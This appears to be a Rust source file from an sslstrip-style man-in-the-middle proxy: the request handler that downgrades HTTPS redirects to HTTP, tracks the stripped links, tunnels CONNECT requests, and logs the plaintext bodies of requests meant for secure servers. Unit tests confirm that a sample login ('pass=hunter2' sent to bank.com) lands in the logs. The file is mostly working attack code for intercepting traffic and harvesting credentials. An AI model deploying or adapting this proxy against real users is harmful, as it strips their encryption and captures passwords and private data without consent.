//! The forwarding handler.
//!
//! # Data Flow
//! ```text
//! inbound request
//!     → downgrade table: secure or plaintext upstream?
//!     → OutboundRequest (host/port/path/method/headers)
//!     → upstream.rs send (502 on any failure, never retried)
//!     → Location https → http, recorded
//!     → HTML? rewrite.rs : stream through untouched
//! ```

use std::sync::Arc;

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{header, HeaderMap, HeaderValue, Method, StatusCode};
use axum::response::{IntoResponse, Response};
use futures_util::TryStreamExt;
use tokio::net::TcpStream;

use crate::downgrade::DowngradeTable;
use crate::http::rewrite::{is_rewritable, ContentRewriter};
use crate::http::upstream::{inbound_authority, OutboundRequest, UpstreamConnector, UpstreamScheme};
use crate::net::tunnel::{self, TunnelRelay, TunnelTarget};
use crate::observability::metrics;

/// Reason phrase on the 502 sent when the upstream cannot be reached.
pub const PROXY_FETCH_FAILED: &[u8] = b"Proxy fetch failed";

/// Application state injected into the handler.
#[derive(Debug, Clone)]
pub struct ProxyState {
    pub downgrades: DowngradeTable,
    pub upstream: Arc<UpstreamConnector>,
    pub rewriter: ContentRewriter,
    pub tunnels: TunnelRelay,
}

/// Forward one plaintext request and relay or rewrite its response.
pub async fn forward(State(state): State<ProxyState>, request: Request) -> Response {
    if request.method() == Method::CONNECT {
        return upgrade_tunnel(state.tunnels, request).await;
    }

    let (parts, body) = request.into_parts();
    let authority = match inbound_authority(&parts) {
        Ok(authority) => authority,
        Err(e) => {
            tracing::debug!(uri = %parts.uri, error = %e, "Rejecting request");
            return (StatusCode::BAD_REQUEST, e.to_string()).into_response();
        }
    };

    let secure = state
        .downgrades
        .should_use_secure_scheme(authority.as_str(), parts.uri.path());
    let scheme = UpstreamScheme::from_secure(secure);
    let outbound = match OutboundRequest::from_parts(&parts, scheme) {
        Ok(outbound) => outbound,
        Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
    };

    tracing::debug!(
        method = %outbound.method,
        scheme = scheme.as_str(),
        upstream = %outbound.addr(),
        path = %outbound.path,
        "Proxying request"
    );

    let body = if secure { sniff(body, outbound.addr()) } else { body };
    let target = format!("{}://{}{}", scheme.as_str(), outbound.addr(), outbound.path);

    let response = match state.upstream.send(outbound, body).await {
        Ok(response) => response,
        Err(e) => {
            tracing::warn!(url = %target, error = %e, "Proxy request failed");
            metrics::record_upstream_failure();
            return proxy_fetch_failed();
        }
    };
    metrics::record_request(scheme.as_str(), response.status().as_u16());

    let (mut parts, body) = response.into_parts();
    downgrade_location(&mut parts.headers, &state.downgrades);
    let response = Response::from_parts(parts, Body::new(body));

    if is_rewritable(response.headers()) {
        state.rewriter.rewrite_response(response)
    } else {
        response
    }
}

/// Surface request body chunks of secure-bound requests to the log.
fn sniff(body: Body, upstream: String) -> Body {
    Body::from_stream(body.into_data_stream().inspect_ok(move |chunk| {
        tracing::info!(
            target: "sslstrip_proxy::sniff",
            upstream = %upstream,
            body = %String::from_utf8_lossy(chunk),
            "Sniffed request body"
        );
    }))
}

/// Rewrite an `https` redirect to `http` and remember the secure target.
fn downgrade_location(headers: &mut HeaderMap, downgrades: &DowngradeTable) {
    let Some(location) = headers
        .get(header::LOCATION)
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned)
    else {
        return;
    };
    if !location.contains("https") {
        return;
    }

    downgrades.record_secure_link(&location);
    let downgraded = location.replacen("https:", "http:", 1);
    match HeaderValue::from_str(&downgraded) {
        Ok(value) => {
            headers.insert(header::LOCATION, value);
        }
        Err(e) => tracing::debug!(location = %location, error = %e, "Keeping original Location"),
    }
}

fn proxy_fetch_failed() -> Response {
    let mut response = StatusCode::BAD_GATEWAY.into_response();
    response
        .extensions_mut()
        .insert(hyper::ext::ReasonPhrase::from_static(PROXY_FETCH_FAILED));
    response
}

/// CONNECT on a connection that already carried HTTP: tunnel via upgrade.
async fn upgrade_tunnel(relay: TunnelRelay, request: Request) -> Response {
    let target = match request
        .uri()
        .authority()
        .map(|a| a.as_str().parse::<TunnelTarget>())
    {
        Some(Ok(target)) => target,
        _ => return (StatusCode::BAD_REQUEST, "invalid CONNECT target").into_response(),
    };

    let upstream: TcpStream = match relay.connect(&target).await {
        Ok(upstream) => upstream,
        Err(e) => {
            tracing::warn!(error = %e, "Https connect to server error");
            metrics::record_tunnel("connect_failed");
            let mut response = proxy_fetch_failed();
            response
                .headers_mut()
                .insert(header::CONNECTION, HeaderValue::from_static("close"));
            return response;
        }
    };

    tokio::spawn(async move {
        match hyper::upgrade::on(request).await {
            Ok(upgraded) => {
                metrics::record_tunnel("established");
                let mut client = hyper_util::rt::TokioIo::new(upgraded);
                if let Err(e) = tunnel::splice(&mut client, upstream, &[]).await {
                    tracing::warn!(tunnel = %target, error = %e, "Tunnel error");
                }
            }
            Err(e) => tracing::warn!(tunnel = %target, error = %e, "Tunnel upgrade failed"),
        }
    });

    let mut response = Response::new(Body::empty());
    response
        .headers_mut()
        .insert(header::CONNECTION, HeaderValue::from_static("keep-alive"));
    response
        .extensions_mut()
        .insert(hyper::ext::ReasonPhrase::from_static(b"Connection established"));
    response
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io;
    use std::sync::Mutex;
    use std::time::Duration;
    use tracing_subscriber::fmt::MakeWriter;

    #[derive(Clone, Default)]
    struct CapturedLogs(Arc<Mutex<Vec<u8>>>);

    impl CapturedLogs {
        fn contents(&self) -> String {
            String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
        }
    }

    impl io::Write for CapturedLogs {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(buf);
            Ok(buf.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    impl<'a> MakeWriter<'a> for CapturedLogs {
        type Writer = Self;

        fn make_writer(&'a self) -> Self::Writer {
            self.clone()
        }
    }

    #[tokio::test]
    async fn test_sniffed_body_is_logged_and_forwarded_unchanged() {
        let logs = CapturedLogs::default();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(logs.clone())
            .with_ansi(false)
            .with_max_level(tracing::Level::INFO)
            .finish();
        let _guard = tracing::subscriber::set_default(subscriber);

        let body = sniff(Body::from("user=alice&pass=hunter2"), "bank.com:443".to_string());
        let forwarded = axum::body::to_bytes(body, usize::MAX).await.unwrap();

        assert_eq!(&forwarded[..], b"user=alice&pass=hunter2");
        let logs = logs.contents();
        assert!(logs.contains("sslstrip_proxy::sniff"), "{logs}");
        assert!(logs.contains("bank.com:443"));
        assert!(logs.contains("user=alice&pass=hunter2"));
    }

    #[test]
    fn test_location_is_downgraded_and_recorded() {
        let table = DowngradeTable::new();
        let mut headers = HeaderMap::new();
        headers.insert(
            header::LOCATION,
            HeaderValue::from_static("https://bank.com/login?next=https://bank.com/"),
        );

        downgrade_location(&mut headers, &table);
        assert_eq!(headers[header::LOCATION], "http://bank.com/login?next=https://bank.com/");
        assert!(table.should_use_secure_scheme("bank.com", "/login"));
    }

    #[test]
    fn test_plain_location_is_untouched() {
        let table = DowngradeTable::new();
        let mut headers = HeaderMap::new();
        headers.insert(header::LOCATION, HeaderValue::from_static("/next"));

        downgrade_location(&mut headers, &table);
        assert_eq!(headers[header::LOCATION], "/next");
        assert!(table.is_empty());
    }

    #[tokio::test]
    async fn test_failed_upgrade_tunnel_closes_connection() {
        let closed = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let dead = closed.local_addr().unwrap();
        drop(closed);

        let request = axum::http::Request::builder()
            .method(Method::CONNECT)
            .uri(dead.to_string())
            .body(Body::empty())
            .unwrap();
        let response = upgrade_tunnel(TunnelRelay::new(Duration::from_secs(1)), request).await;

        assert_eq!(response.status(), StatusCode::BAD_GATEWAY);
        assert_eq!(response.headers()[header::CONNECTION], "close");
        let reason = response.extensions().get::<hyper::ext::ReasonPhrase>().unwrap();
        assert_eq!(reason.as_bytes(), PROXY_FETCH_FAILED);
    }
}
